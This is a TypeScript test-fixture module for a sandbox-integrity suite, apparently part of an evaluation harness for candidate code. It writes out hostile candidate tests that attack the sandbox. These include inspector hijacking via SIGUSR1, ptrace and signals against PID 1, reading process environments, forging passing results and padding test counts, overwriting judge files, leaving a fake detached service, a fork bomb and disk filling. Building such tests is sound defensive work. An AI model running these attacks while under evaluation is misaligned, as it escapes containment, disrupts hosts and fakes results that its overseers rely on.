// What hostile candidates of the e2e quote service (test/e2e/images/quote) write, for
// test/e2e/sandbox-integrity.test.ts: test files that attack the sandbox from the candidate's
// container and report what they tried. Each attack is a node:test file whose one test passes only
// when the attack got somewhere, so a defended sandbox fails the candidate's tests and the judge's
// log shows every attempt (`attack: failed <what>: <why>`). The sources are plain JavaScript as a
// candidate would write it (no backquotes or `${`, so they sit in String.raw templates).

/** One target of an egress attempt; `gateway` as host means the pod's default gateway (the node). */
export interface EgressTarget {
  name: string;
  kind: 'tcp' | 'dns' | 'lookup';
  host: string;
  port: number;
}

const PRELUDE = String.raw`import assert from 'node:assert/strict';
import { test } from 'node:test';
import { connect } from 'node:net';
import { createSocket } from 'node:dgram';
import { lookup } from 'node:dns/promises';
import * as fs from 'node:fs';
import { execFileSync } from 'node:child_process';

function settle(setup, ms) {
  return new Promise((resolve) => {
    let done = false;
    const finish = (worked, detail) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      resolve({ worked, detail: String(detail) });
    };
    const timer = setTimeout(() => finish(false, 'timeout'), ms);
    setup(finish);
  });
}

function tcp(host, port, ms = 2000) {
  return settle((finish) => {
    const socket = connect({ host, port });
    socket.on('connect', () => {
      socket.destroy();
      finish(true, 'connected');
    });
    socket.on('error', (error) => finish(false, error.code || error.message));
    setTimeout(() => socket.destroy(), ms);
  }, ms);
}

function httpGet(host, port, path, ms = 2000) {
  return settle((finish) => {
    let text = '';
    const socket = connect({ host, port });
    socket.on('connect', () => socket.write('GET ' + path + ' HTTP/1.0\r\nHost: localhost\r\n\r\n'));
    socket.on('data', (chunk) => (text += chunk));
    socket.on('end', () => finish(true, text));
    socket.on('error', (error) => finish(false, error.code || error.message));
    setTimeout(() => socket.destroy(), ms);
  }, ms);
}

function dnsQuery(host, port, ms = 2000) {
  return settle((finish) => {
    const labels = 'kubernetes.default.svc.cluster.local'.split('.');
    const name = Buffer.concat(labels.map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])));
    const query = Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), name, Buffer.from([0, 0, 1, 0, 1])]);
    const socket = createSocket('udp4');
    socket.on('message', () => finish(true, 'answered'));
    socket.on('error', (error) => finish(false, error.code || error.message));
    socket.send(query, port, host);
    setTimeout(() => socket.close(), ms);
  }, ms);
}

function defaultGateway() {
  const line = fs
    .readFileSync('/proc/net/route', 'utf8')
    .split('\n')
    .map((row) => row.trim().split(/\s+/))
    .find((fields) => fields[1] === '00000000');
  if (!line) return '0.0.0.0';
  const hex = line[2];
  return [6, 4, 2, 0].map((at) => parseInt(hex.slice(at, at + 2), 16)).join('.');
}

function comm(pid) {
  try {
    return fs.readFileSync('/proc/' + pid + '/comm', 'utf8').trim();
  } catch (error) {
    return error.code;
  }
}

function parentOf(pid) {
  try {
    const stat = fs.readFileSync('/proc/' + pid + '/stat', 'utf8');
    return Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
  } catch {
    return 0;
  }
}

function attemptSync(what, action) {
  try {
    const detail = action();
    return { what, worked: true, detail: detail === undefined ? 'done' : detail };
  } catch (error) {
    return { what, worked: false, detail: error.code || error.message };
  }
}
`;

function attackFile(title: string, attempt: string): string {
  return `${PRELUDE}
${attempt}

test(${JSON.stringify(title)}, async () => {
  const tried = await attempt();
  const lines = tried.map(
    (item) => (item.worked ? 'WORKED ' : 'failed ') + item.what + ': ' + String(item.detail).replace(/\\s+/g, ' ').slice(0, 160),
  );
  for (const line of lines) console.log('attack: ' + line);
  assert.ok(
    tried.some((item) => item.worked),
    'reached nothing',
  );
});
`;
}

/** Tries every target at once; the pod's default gateway stands for `gateway`. */
export function egressTest(targets: readonly EgressTarget[]): string {
  return attackFile(
    `reaches ${targets.map((target) => target.name).join(', ')}`,
    `const TARGETS = ${JSON.stringify(targets)};
` +
      String.raw`
async function attempt() {
  return Promise.all(
    TARGETS.map(async (target) => {
      const host = target.host === 'gateway' ? defaultGateway() : target.host;
      const what = 'egress ' + target.name + ' ' + host + ':' + target.port;
      if (target.kind === 'dns') return { what, ...(await dnsQuery(host, target.port)) };
      if (target.kind === 'lookup') {
        const found = await lookup(target.host).then(
          (address) => ({ worked: true, detail: address.address }),
          (error) => ({ worked: false, detail: error.code }),
        );
        return { what: 'egress ' + target.name + ' lookup ' + target.host, ...found };
      }
      return { what, ...(await tcp(host, target.port)) };
    }),
  );
}`,
  );
}

/**
 * SIGUSR1 to every process the candidate can see but its own ancestors (Node opens its inspector
 * on SIGUSR1), then a look for the judge's inspector on loopback.
 */
export const SIGNAL_EVERY_PID = attackFile(
  'opens the judge inspector with SIGUSR1',
  String.raw`
async function attempt() {
  const tried = [];
  const mine = new Set([process.pid]);
  for (let pid = process.ppid; pid > 1; pid = parentOf(pid)) mine.add(pid);
  const pids = fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name)).map(Number);
  tried.push({ what: 'processes visible', worked: false, detail: pids.map((pid) => pid + '=' + comm(pid)).join(' ') });
  for (const pid of pids.filter((pid) => !mine.has(pid))) {
    tried.push(attemptSync('SIGUSR1 to ' + pid + ' (' + comm(pid) + ')', () => void process.kill(pid, 'SIGUSR1')));
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  const inspector = await httpGet('127.0.0.1', 9229, '/json/list');
  tried.push({
    what: 'judge inspector listed at 127.0.0.1:9229',
    worked: /runner\.mjs/.test(inspector.detail),
    detail: inspector.detail,
  });
  // Only reaching the judge counts; signals that were merely delivered do not.
  return tried.map((item) => (item.what.startsWith('SIGUSR1') ? { ...item, worked: false, detail: item.detail === 'done' ? 'delivered, nothing opened' : item.detail } : item));
}`,
);

/** The Node inspector's ports on loopback (the pod's containers share one network namespace). */
export const CONNECT_INSPECTOR = attackFile(
  'drives the judge inspector on loopback',
  String.raw`
async function attempt() {
  const tried = [];
  for (const port of [9229, 9230, 9231]) {
    const listing = await httpGet('127.0.0.1', port, '/json/list');
    tried.push({ what: 'inspector 127.0.0.1:' + port + '/json/list', worked: /webSocketDebuggerUrl/.test(listing.detail), detail: listing.detail });
  }
  const six = await tcp('::1', 9229);
  tried.push({ what: 'inspector [::1]:9229', ...six });
  return tried;
}`,
);

/** The executor (PID 1 of the candidate container, same uid): trace it, read its memory, stop it. */
export const TRACE_EXECUTOR = attackFile(
  'takes over the executor',
  String.raw`
async function attempt() {
  const tried = [];
  tried.push(attemptSync('open /proc/1/mem', () => { fs.closeSync(fs.openSync('/proc/1/mem', 'r')); return 'opened'; }));
  tried.push(attemptSync('read /proc/1/environ', () => fs.readFileSync('/proc/1/environ', 'utf8').slice(0, 80)));
  tried.push(attemptSync('list /proc/1/fd', () => fs.readdirSync('/proc/1/fd').join(',')));
  tried.push(attemptSync('read /proc/1/exe', () => fs.readlinkSync('/proc/1/exe')));
  // ptrace(PTRACE_ATTACH = 16, 1): syscall 101 on x86_64, 117 on arm64; perl is in every Debian image.
  const ptrace = process.arch === 'arm64' ? 117 : 101;
  tried.push(
    attemptSync('ptrace(PTRACE_ATTACH, 1)', () => {
      const said = execFileSync('perl', ['-e', 'my $r = syscall(' + ptrace + ', 16, 1, 0, 0); print $r == 0 ? "attached" : "refused: $!"'], { encoding: 'utf8' });
      if (!said.startsWith('attached')) throw new Error(said);
      return said;
    }),
  );
  for (const signal of ['SIGSTOP', 'SIGKILL']) {
    tried.push(
      attemptSync(signal + ' to pid 1', () => {
        process.kill(1, signal);
        const state = fs.readFileSync('/proc/1/stat', 'utf8').split(') ')[1][0];
        if (state !== 'T') throw new Error('pid 1 still in state ' + state);
        return 'stopped';
      }),
    );
  }
  return tried;
}`,
);

/**
 * Writes a result claiming every test passed to its own termination log, and looks for the
 * judge's.
 */
export function forgeResult(candidate: string): string {
  const forged = JSON.stringify({
    version: 3,
    nonce: '0'.repeat(32),
    candidate,
    outcome: 'evaluated',
    breached: [],
    commands: [{ name: 'test', exitCode: 0, timedOut: false, durationMs: 1 }],
    tests: { format: 'tap', passed: 3, failed: 0, skipped: 0 },
    commandMs: 1,
    isolationMs: 1,
  });
  return attackFile(
    'writes a passing result',
    `const FORGED = ${JSON.stringify(forged)};
` +
      String.raw`
async function attempt() {
  const tried = [];
  tried.push(attemptSync('write its own /dev/termination-log', () => fs.writeFileSync('/dev/termination-log', FORGED)));
  tried.push(attemptSync('find the judge (runner.mjs) among the processes', () => {
    const found = fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name)).find((pid) => {
      try { return fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8').includes('runner.mjs'); } catch { return false; }
    });
    if (!found) throw new Error('not visible');
    fs.writeFileSync('/proc/' + found + '/root/dev/termination-log', FORGED);
    return 'wrote the judge termination log';
  }));
  return tried;
}`,
  );
}

/** The judge's folders as the candidate container mounts them (or does not). */
export const JUDGE_FILES = attackFile(
  'writes the judge files',
  String.raw`
function unix(path) {
  return settle((finish) => {
    const socket = connect({ path });
    socket.on('connect', () => { socket.destroy(); finish(true, 'connected'); });
    socket.on('error', (error) => finish(false, error.code || error.message));
  }, 2000);
}

async function attempt() {
  const tried = [];
  tried.push({ what: 'list /hyperagent/control', worked: false, detail: (() => { try { return fs.readdirSync('/hyperagent/control').join(',') || 'empty'; } catch (error) { return error.code; } })() });
  tried.push(attemptSync('write /hyperagent/control/parameters.json', () => fs.writeFileSync('/hyperagent/control/parameters.json', '{"QUOTE_CACHE":"on"}')));
  tried.push(attemptSync('create /hyperagent/control/result.json', () => fs.writeFileSync('/hyperagent/control/result.json', '{}')));
  tried.push(attemptSync('replace /hyperagent/control/executor.sock', () => fs.renameSync('/hyperagent/control/executor.sock', '/hyperagent/control/old.sock')));
  tried.push({ what: 'connect /hyperagent/control/executor.sock', ...(await unix('/hyperagent/control/executor.sock')) });
  tried.push({ what: 'connect /hyperagent/control/stand-ins.sock', ...(await unix('/hyperagent/control/stand-ins.sock')) });
  tried.push(attemptSync('overwrite /hyperagent/tools/executor', () => fs.writeFileSync('/hyperagent/tools/executor', '#!/bin/sh\n')));
  tried.push(attemptSync('read the manifest in /hyperagent/input', () => fs.readdirSync('/hyperagent/input').join(',')));
  tried.push(attemptSync('read the judge scratch /hyperagent/candidate-tmp', () => fs.readdirSync('/hyperagent/candidate-tmp').join(',')));
  return tried;
}`,
);

/** A node one-liner answering /healthz and /quote at once, on the service's port. */
const FAKE_SERVICE = String.raw`require('http').createServer((q, s) => { const symbol = new URL(q.url, 'http://x').searchParams.get('symbol') || ''; s.writeHead(200, { 'content-type': 'application/json' }).end(q.url.startsWith('/healthz') ? 'ok' : JSON.stringify({ symbol, price: symbol.length * 10, venue: ['XNYS', 'XNAS', 'XLON'][symbol.length % 3] })); }).listen(8080)`;

/** A test that leaves a daemon (setsid, nohup) serving fast answers where the service will listen. */
export const DETACHED_DAEMON = String.raw`import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { test } from 'node:test';

test('warms a quote daemon', async () => {
  const daemon = spawn('setsid', ['nohup', 'node', '-e', ${JSON.stringify(FAKE_SERVICE)}], {
    detached: true,
    stdio: 'ignore',
  });
  daemon.unref();
  await new Promise((resolve) => setTimeout(resolve, 500));
  assert.ok(daemon.pid > 0);
});
`;

/** A test that forks without bound. */
export const FORK_BOMB = String.raw`import { execSync } from 'node:child_process';
import { test } from 'node:test';

test('prefork workers', () => {
  execSync('w() { w | w & }; w; sleep 600', { shell: '/bin/sh', stdio: 'ignore' });
});
`;

/** A test that writes 400 MiB to its scratch (a 256 MiB emptyDir) and stays. */
export const FILL_DISK = String.raw`import { execSync } from 'node:child_process';
import { test } from 'node:test';

test('precomputes every quote', async () => {
  execSync('dd if=/dev/zero of=/tmp/quotes.bin bs=1M count=400 2>&1');
  await new Promise((resolve) => setTimeout(resolve, 600_000));
});
`;

/**
 * Prepended to a test file: one more passing test written into the test runner's own output
 * (its stdout, reached through /proc/<parent>/fd/1), where the judge reads the counts.
 */
export const PAD_TEST_COUNT = String.raw`import { openSync, writeSync } from 'node:fs';
try {
  const runner = openSync('/proc/' + process.ppid + '/fd/1', 'a');
  writeSync(runner, '\n# pass 1\n');
} catch (error) {
  console.log('could not pad the count: ' + error.code);
}
`;

/**
 * Prepended to a test file: rewrites src/server.mjs, after the judge wrote the candidate's files
 * and before it measures the service, with `measured`.
 */
export function swapTree(measured: string): string {
  return `import { writeFileSync as swapFile } from 'node:fs';
swapFile(new URL('../src/server.mjs', import.meta.url), ${JSON.stringify(measured)});
`;
}
